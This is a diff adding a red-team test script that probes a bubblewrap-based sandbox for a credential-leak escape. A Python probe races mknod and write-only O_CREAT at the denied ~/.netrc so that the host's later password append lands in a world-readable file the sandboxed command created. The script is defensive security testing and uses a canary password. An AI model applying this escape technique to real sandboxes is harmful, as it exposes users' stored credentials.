@@ -1,0 +1,55 @@
+#!/bin/bash
+# Escape class H1 (linux-bwrap), red team on d438bd4's judge_create: it
+# judges symlink, symlinkat, mkdir and mkdirat at a denied name, not
+# mknod and mknodat. After the host's `rm ~/.netrc` (denyRead ~/.netrc,
+# allowWrite ~) the command, spinning on mknod(~/.netrc, S_IFREG|0666)
+# under umask 0, makes the file the host's next `echo ... >> ~/.netrc`
+# appends its password to: the host's secret ends in a world-readable
+# file of the command's making that stays after the run. A write-only
+# O_CREAT open at the name does the same (judge_open judges read opens
+# only; the probe's first tries are reported as denied, a later one
+# makes the file): the second pair of lines.
+. "$(dirname "$0")/lib.sh"
+need_bwrap
+P="$WORK/proj"
+cd "$P" || exit 1
+S=$(fsjson s '{"denyRead":["~/.netrc"],"allowWrite":[".","~"],"denyWrite":[]}')
+cat > "$WORK/probe.py" <<'PYEOF'
+import os, sys, time
+p = sys.argv[1]
+how = sys.argv[2]
+n = os.path.join(os.environ["HOME"], ".netrc")
+os.umask(0)
+res = open(p + "/res", "a")
+open(p + "/ready", "w").close()
+made, err = False, None
+end = time.time() + 10
+while not made and time.time() < end:
+    try:
+        if how == "mknod":
+            os.mknod(n, 0o100666)
+        else:
+            os.close(os.open(n, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666))
+        made = True
+    except OSError as e:
+        err = e
+res.write("made\n" if made else "not-made %s\n" % err)
+PYEOF
+for how in mknod open; do
+	rm -f "$HOME/.netrc" "$P/ready" "$P/res"
+	echo "machine old password old" > "$HOME/.netrc"
+	chmod 600 "$HOME/.netrc"
+	srt__bg -s "$S" -c "$PY $WORK/probe.py $P $how"
+	pid=$!
+	wait_for "$P/ready" 100 || diag "the probe did not start: $(cat "$WORK/bg.out")"
+	sleep 0.3
+	rm -f "$HOME/.netrc"
+	sleep 0.3
+	echo "machine example.com password $CANARY" >> "$HOME/.netrc"
+	end_bg "$pid"
+	diag "res: $(tr '\n' ' ' < "$P/res" 2>/dev/null)" "srt: $(tr '\n' ' ' < "$WORK/bg.out" | cut -c1-300)"
+	diag "host ~/.netrc after the run: $(ls -l "$HOME/.netrc" 2>&1)"
+	attempt H1 "$how at the removed denied ~/.netrc: the host's password is not in a world-readable file of the command's making" \
+		sh -c '[ "$(stat -c %a "$1")" != 666 ]' _ "$HOME/.netrc"
+done
+echo "1..$_tap_n"
